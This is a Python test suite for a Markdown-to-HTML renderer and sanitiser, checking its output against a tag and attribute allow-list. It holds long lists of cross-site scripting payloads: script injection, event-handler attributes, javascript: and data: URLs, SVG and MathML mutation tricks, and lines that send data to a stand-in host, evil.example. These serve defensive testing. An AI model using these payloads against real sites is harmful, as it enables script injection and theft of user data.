"""Markdown to HTML: what comes out is parsed as a browser would, and judged by an allow-list."""

from __future__ import annotations

import re
from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from mdit_py_plugins.dollarmath import dollarmath_plugin

from pedabot.answering.rendering import MAX_LENGTH, BlockStream, render, sanitise

NARROW = "\u202f"
NO_BREAK = "\u00a0"

ALIGNED = r"align-(left|center|right)"
ALLOWED: dict[str, dict[str, str]] = {
    "a": {
        "href": r"https?:.+|mailto:.+|/(?!/).*|#.*",
        "class": "reference|external",
        "rel": ".*",
        "title": ".*",
    },
    "code": {"class": r"language-[\w+-]+"},
    "div": {"class": "math (block|inline)"},
    "ol": {"start": r"\d+"},
    "span": {"class": r"math inline|hl-\w+|doubt|doubt-note"},
    "td": {"class": ALIGNED},
    "th": {"class": ALIGNED},
    **{
        name: {}
        for name in (
            "blockquote",
            "br",
            "del",
            "em",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "p",
            "pre",
        )
    },
    **{name: {} for name in ("s", "strong", "table", "tbody", "thead", "tr", "ul")},
}

# A busy machine is no failure.
patient = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])

HTML_NAMESPACE = "{http://www.w3.org/1999/xhtml}"


def parsed(html: str) -> Element:
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=True)
    assert isinstance(fragment, Element)
    return fragment


def elements(html: str, name: str = "") -> list[Element]:
    """Return the elements of a fragment, or those of one name."""
    return list(_walk(parsed(html), name))


def _walk(fragment: Element, name: str) -> Iterator[Element]:
    for element in list(fragment.iter())[1:]:
        assert isinstance(element.tag, str), "a comment or a processing instruction"
        if not name or element.tag == HTML_NAMESPACE + name:
            yield element


def text_of(html: str) -> str:
    return "".join(parsed(html).itertext())


def as_a_browser_reads(address: str) -> str:
    """Do what the URL standard does before it looks for a scheme or a host."""
    return re.sub(r"[\t\n\r]", "", address).strip("".join(map(chr, range(33)))).replace("\\", "/")


def assert_safe(html: str) -> None:
    for element in elements(html):
        assert element.tag.startswith(HTML_NAMESPACE), f"{element.tag} is foreign"
        name = element.tag.removeprefix(HTML_NAMESPACE)
        assert name in ALLOWED, f"<{name}> in {html}"
        for attribute, value in element.attrib.items():
            assert attribute in ALLOWED[name], f"<{name} {attribute}> in {html}"
            value = as_a_browser_reads(value) if attribute == "href" else value
            assert re.fullmatch(ALLOWED[name][attribute], value, re.DOTALL), f"{value} in {html}"


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    '"><script>alert(1)</script>',
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=https://evil.example/?q=secret>",
    "<p onclick=alert(1)>x</p>",
    "<p ONMOUSEOVER='alert(1)'>x</p>",
    "<p/onfocus=alert(1) autofocus tabindex=1>x</p>",
    "<a href=# onclick=alert(1)>x</a>",
    "<table><td onpointerenter=alert(1) class=align-left>x</table>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;avascript&#58alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/&#9;/evil.example">x</a>',
    '<a href="/&#9;\\evil.example">x</a>',
    '<a href="/\n\\evil.example">x</a>',
    '<a href="https://[evil">x</a>',
    '<a href="admin/delete">x</a>',
    '<a href="https://x.example" target=_blank style="position:fixed;inset:0">x</a>',
    '<a href="https://x.example" class="button danger">x</a>',
    '<a href="https://x.example" id=chat name=chat ping=//evil.example download>x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><a title='--&gt;&lt;img src onerror=f()&gt;'>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><a title='</noembed><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,x><embed src=//evil.example></object>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<p id=csrf_token name=body>x</p>",
    "<a id=config><a id=config name=url href=https://evil.example>x</a>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table><tr><td><table><tr><td><script>alert(1)</script></table></table>",
    "<table><a href=javascript:alert(1)>x</a></table>",
    "<td class='align-left evil'>x</td>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version='1.0'?><?php echo 1 ?><!DOCTYPE html>",
    "<%<!--'%><script>alert(1);</script -->",
    "<ol start='1;alert(1)'><li value=3>x</ol>",
    "<code class='language-x onclick=alert(1)'>x</code>",
    "<a title='\"><img src=x onerror=alert(1)>' href=https://x.example>x</a>",
    '<p ="><script>alert(1)</script>',
    "<a href='https://x.example' \"onclick=alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<p><\x00script>alert(1)</script>",
    "<a href=https://x.example",
]

HOSTILE_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&#0;script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\\\\\evil.example)",
    "[x](/&Tab;/evil.example)",
    "[x](https:evil.example)",
    "[x](https://[evil)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://x.example/"onclick=alert(1)>',
    "<vbscript:msgbox(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://x.example "a\\" onclick=alert(1) b")',
    "[x](https://x.example '\"><script>alert(1)</script>')",
    "[x](https://x.example (&quot; onmouseover=&quot;alert(1)))",
    '[x](https://x.example/"onmouseover="alert(1))',
    "[x](https://x.example/?a=<script>alert(1)</script>)",
    "[<script>alert(1)</script>](https://x.example)",
    "[a [b](javascript:alert(1)) c](https://x.example)",
    '| a |\n|:-" onclick=alert(1):|\n| b |',
    "| <td onclick=alert(1)> | b |\n|:-:|-:|\n| <script>alert(1)</script> | b |",
    "| a |\n|:-:|\n| [x](javascript:alert(1)) |",
    '```x" onclick="alert(1)\nx\n```',
    "```<script>\nalert(1)\n```",
    "```html\n<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```python\n'''</span></code></pre><script>alert(1)</script>'''\n",
    "```language-x evil\nx\n```",
    "```\n<script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "$</span><script>alert(1)</script>$",
    "$$\n</div><script>alert(1)</script>\n$$",
    '$$x$$ ("><script>alert(1)</script>)',
    '$$\nx\n$$ (name" onclick="alert(1))',
    "\\<script>alert(1)\\</script>",
    "# <img src=x onerror=alert(1)>",
    "> <iframe src=javascript:alert(1)>",
    "- <svg onload=alert(1)>",
    "999999999. x\n<script>alert(1)</script>",
    "<p markdown=1>**x**<script>alert(1)</script></p>",
    "«<script>alert(1)</script>» : <b onclick='alert(1)'> !",
    "\u202e<script>alert(1)</script>\u2066",
    "\ufeff<script>alert(1)</script>\x00",
]


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_hostile_html_is_made_safe(html: str) -> None:
    assert_safe(sanitise(html))


@pytest.mark.parametrize("text", [*HOSTILE_MARKDOWN, *HOSTILE_HTML])
def test_hostile_markdown_is_made_safe(text: str) -> None:
    assert_safe(render(text, ["/knowledge/a/b"]))


@given(st.lists(st.sampled_from([*HOSTILE_MARKDOWN, *HOSTILE_HTML]), min_size=2, max_size=3))
@settings(patient, max_examples=15)
def test_hostile_texts_are_safe_side_by_side(texts: list[str]) -> None:
    assert_safe(render("".join(texts)))
    assert_safe(sanitise("".join(texts)))


def test_the_judge_of_these_tests_is_able_to_condemn() -> None:
    hostile = [
        "<script>1</script>",
        "<p onclick=x>y</p>",
        "<p id=x>y</p>",
        "<p style=x>y</p>",
        "<svg></svg>",
        "<!-- x -->",
        "<a href='java\nscript:x'>y</a>",
        "<a href='/\t\\evil'>y</a>",
        "<span class=evil>y</span>",
        "<img src=x>",
    ]
    for html in hostile:
        with pytest.raises(AssertionError):
            assert_safe(html)


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    html = render("<b>gras</b> <!-- x --> <script>f()</script>")
    assert text_of(html).strip() == "<b>gras</b> <!-- x --> <script>f()</script>"


def test_sanitising_keeps_what_the_renderer_makes() -> None:
    html = '<p><a href="/knowledge/a/b" class="reference">1</a> <strong>x</strong></p>'
    assert sanitise(html) == html


def test_an_image_sends_nothing_to_its_address() -> None:
    html = render("![schéma](https://evil.example/?q=secret)")
    assert elements(html, "img") == []
    assert "schéma" in text_of(html)


def test_a_table_says_its_alignment_with_classes() -> None:
    html = render("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |")
    classes = ["align-left", "align-center", "align-right", None]
    assert [cell.get("class") for cell in elements(html, "th")] == classes
    assert [cell.get("class") for cell in elements(html, "td")] == classes


def test_fenced_code_is_highlighted_by_classes() -> None:
    html = render("```python\nprint('a', 1)\n```")
    (code,) = elements(html, "code")
    assert code.get("class") == "language-python"
    assert {"hl-nb", "hl-mi"} <= {span.get("class") for span in elements(html, "span")}
    assert text_of(html).strip() == "print('a', 1)"


def test_code_in_an_unknown_language_is_shown_as_it_is() -> None:
    html = render("```klingon\nif a < b: l'as ... ;\n```")
    assert elements(html, "span") == []
    assert text_of(html).strip() == "if a < b: l'as ... ;"


def test_maths_are_kept_for_the_page_to_typeset() -> None:
    html = render("Soit $x_1 < 2 * y*z$.\n\n$$\n\\frac{a}{b} ; c\n$$")
    (inline,) = elements(html, "span")
    (block,) = elements(html, "div")
    assert (inline.get("class"), inline.text) == ("math inline", "x_1 < 2 * y*z")
    assert (block.get("class"), (block.text or "").strip()) == ("math block", "\\frac{a}{b} ; c")


def test_a_formula_displayed_inside_a_sentence_leaves_it_one_paragraph() -> None:
    (paragraph,) = elements(render("Soit $$x^2$$ donc."), "p")
    assert "".join(paragraph.itertext()) == "Soit x^2 donc."


def test_a_price_is_no_formula() -> None:
    assert elements(render("Entre 5 $ et 10 $ par mois."), "span") == []


def test_references_are_linked_in_their_order() -> None:
    html = render("L'un [1], **l'autre [2]**.", ["/knowledge/a/b", "/knowledge/c/d"])
    links = [(link.get("href"), link.get("class"), link.text) for link in elements(html, "a")]
    assert links == [
        ("/knowledge/a/b", "reference", "1"),
        ("/knowledge/c/d", "reference", "2"),
    ]


@pytest.mark.parametrize("text", ["[0]", "[3]", "[99]", "[100]", "[a]", "[]", "[-1]"])
def test_what_is_no_reference_stays_text(text: str) -> None:
    html = render(text, ["/knowledge/a/b", "/knowledge/c/d"])
    assert elements(html, "a") == []
    assert text_of(html).strip() == text


@pytest.mark.parametrize("text", ["`t[1]`", "$t[1]$", "```\nt[1]\n```"])
def test_an_index_in_code_or_maths_is_no_reference(text: str) -> None:
    assert elements(render(text, ["/knowledge/a/b"]), "a") == []


def test_without_passages_nothing_is_a_reference() -> None:
    assert render("Voir [1].") == "<p>Voir [1].</p>\n"


def test_headings_stand_below_those_of_the_page() -> None:
    html = render("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f")
    names = [element.tag.removeprefix(HTML_NAMESPACE) for element in elements(html)]
    assert names == ["h3", "h4", "h5", "h6", "h6", "h6"]


def test_a_link_to_the_web_gives_nothing_away() -> None:
    (link,) = elements(render('[doc](https://x.example/a?b=1 "Le titre")'), "a")
    assert link.get("href") == "https://x.example/a?b=1"
    assert (link.get("class"), link.get("title")) == ("external", "Le titre")
    assert set((link.get("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}


@pytest.mark.parametrize("address", ["/knowledge/a/b", "#b", "mailto:prof@school.example"])
def test_a_link_that_stays_at_home_is_not_marked_external(address: str) -> None:
    (link,) = elements(render(f"[x]({address})"), "a")
    assert dict(link.attrib) == {"href": address}


def test_lists_quotes_and_strikes_are_rendered() -> None:
    html = render("3. a\n4. b\n\n- c\n\n> d\n\n~~e~~ *f*\n\n---")
    assert elements(html, "ol")[0].get("start") == "3"
    found = {element.tag.removeprefix(HTML_NAMESPACE) for element in elements(html)}
    assert {"ol", "ul", "li", "blockquote", "s", "em", "hr"} <= found


def test_french_typography_is_set_in_the_text() -> None:
    text = "Oui : l'IA gagne 50 % ici ; « vrai » ?"
    expected = f"Oui{NO_BREAK}: l’IA gagne 50{NARROW}% ici{NARROW}; «{NARROW}vrai{NARROW}»{NARROW}?"
    assert text_of(render(text)).strip() == expected


@pytest.mark.parametrize(
    "text",
    [
        "`l'as = a ? b : c ;`",
        "```\nl'as = a ? b : c ;\n```",
        "~~~\nl'as...\n~~~",
        "$f'(x) : a ; b$",
        "https://x.example/l'as...",
        "    l'as = y[...] ;",  # code by its indentation
        "> ~~~\n> l'as... ;\n> ~~~",
    ],
)
def test_code_maths_and_addresses_are_left_as_typed(text: str) -> None:
    shown = text_of(render(text))
    assert not {NARROW, NO_BREAK, "’", "…"} & set(shown)


def test_the_address_of_a_link_is_left_as_typed() -> None:
    (link,) = elements(render("[x](/page/l'as...)"), "a")
    assert link.get("href") == "/page/l'as..."


def test_a_text_too_long_to_parse_is_shown_escaped() -> None:
    html = render("**a** <script>" + "é" * MAX_LENGTH)
    (block,) = elements(html)
    assert block.tag == HTML_NAMESPACE + "pre"
    assert (block.text or "").startswith("**a** <script>éé")


def test_the_longest_text_is_still_parsed() -> None:
    assert "<strong>a</strong>" in render("**a** ".ljust(MAX_LENGTH, "é"))


@pytest.mark.parametrize(
    "text",
    [
        ">" * 3000 + " a",
        "- " * 1000 + "a",
        "\n".join("  " * depth + "- a" for depth in range(200)),
        "[" * 1000 + "a" + "](/x)" * 1000,
        "**a _b " * 500,
        "<div>" * 1000,
        "![" * 500,
        "$" * 1000,
        "|" * 500 + "\n" + "|-" * 500,
    ],
    ids=["quotes", "lists", "ladder", "links", "emphasis", "html", "images", "maths", "cells"],
)
def test_deep_nesting_is_rendered_safely(text: str) -> None:
    assert_safe(render(text))


def test_half_a_surrogate_pair_is_rendered() -> None:
    assert "Bravo" in render("Bravo \ud83d")


# A text that grows.

LINES = [
    "Du texte : oui [1].",
    "",
    "",
    "  ",
    "# Titre",
    "- point",
    "> citation",
    "| a | b |",
    "|:--|--:|",
    "`code`",
    "```",
    "```python",
    "~~~",
    "    x = 1",
    "$$",
    "$$x^2$$",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
]


@st.composite
def cut_texts(draw: st.DrawFn) -> list[str]:
    """A markdown text, in the pieces in which it may come."""
    text = "\n".join(draw(st.lists(st.sampled_from(LINES), max_size=16)))
    cuts = sorted(draw(st.sets(st.integers(0, len(text)), max_size=8)))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def blocks(pieces: list[str]) -> tuple[list[tuple[str, str]], str]:
    """Feed pieces; return the (source, HTML) of each step that finished blocks, and the tail."""
    stream, tail, finished = BlockStream(["/knowledge/a/b"]), "", []
    for piece in pieces:
        grown = tail + piece
        html, tail = stream.feed(piece)
        assert grown.endswith(tail)
        source = grown[: len(grown) - len(tail)]
        if source:
            finished.append((source, html))
        else:
            assert html == ""
    return finished, tail


@given(cut_texts())
@patient
@example(["a\n", "\nb", "\n", "\n"])
@example(["```\na\n\n", "b\n```\n\n"])
def test_however_it_is_cut_no_block_is_lost_or_doubled(pieces: list[str]) -> None:
    finished, tail = blocks(pieces)
    assert "".join(source for source, _ in finished) + tail == "".join(pieces)
    assert tail == BlockStream().feed("".join(pieces))[1]


@given(cut_texts())
@settings(patient, max_examples=50)
def test_each_finished_block_is_rendered_and_safe(pieces: list[str]) -> None:
    for source, html in blocks(pieces)[0]:
        assert_safe(html)
        if source.strip():
            assert html == render(source, ["/knowledge/a/b"])


def split_fences(pieces: list[str]) -> list[str]:
    """Return the fenced blocks of the text inside which a block was taken for finished."""
    finished, text = blocks(pieces)[0], "".join(pieces)
    ends = [
        "".join(source for source, _ in finished[: n + 1]).count("\n") for n in range(len(finished))
    ]
    parser = MarkdownIt("commonmark").use(dollarmath_plugin, allow_space=False)
    fences = [token.map for token in parser.parse(text) if token.type == "fence"]
    lines = text.split("\n")
    return ["\n".join(lines[a:b]) for a, b in filter(None, fences) if any(a < e < b for e in ends)]


@given(cut_texts())
@patient
def test_fenced_code_is_never_split(pieces: list[str]) -> None:
    assert split_fences(pieces) == []


@pytest.mark.parametrize(
    "text",
    [
        "```python\na\n\nb\n```\n\nfin\n\n",
        "~~~\na\n\n```\n\nb\n~~~\n\nfin\n\n",
        "1. a\n\n   ```bash\n   a\n\n   b\n   ```\n\nfin\n\n",
        "````markdown\n```\n\nb\n```\n````\n\nfin\n\n",  # a longer fence around a shorter one
        "- ```bash\n  a\n\n  b\n  ```\n\nfin\n\n",  # opened on the line of the bullet
        '```python\n"""\n    ```\n\n"""\n```\n\nfin\n\n',  # too far in to close the fence
    ],
    ids=["backticks", "tildes", "in a list", "long fence", "on a bullet", "indented"],
)
def test_a_fence_of_any_form_is_kept_whole_and_comes_to_its_end(text: str) -> None:
    assert split_fences(text.splitlines(keepends=True)) == []
    assert blocks([text])[1] == ""


@pytest.mark.parametrize(
    "text",
    ["$$\na = b\n$$\n\n", "$$\na = b$$\n\n", "$$a = b$$\n\n", "```x``` est du code\n\n"],
    ids=["own line", "end of line", "one line", "inline code"],
)
def test_what_follows_a_formula_or_inline_code_is_finished_in_its_turn(text: str) -> None:
    finished, tail = blocks([text, "Un paragraphe.\n\n"])
    assert tail == ""
    assert "<p>Un paragraphe.</p>" in finished[-1][1]
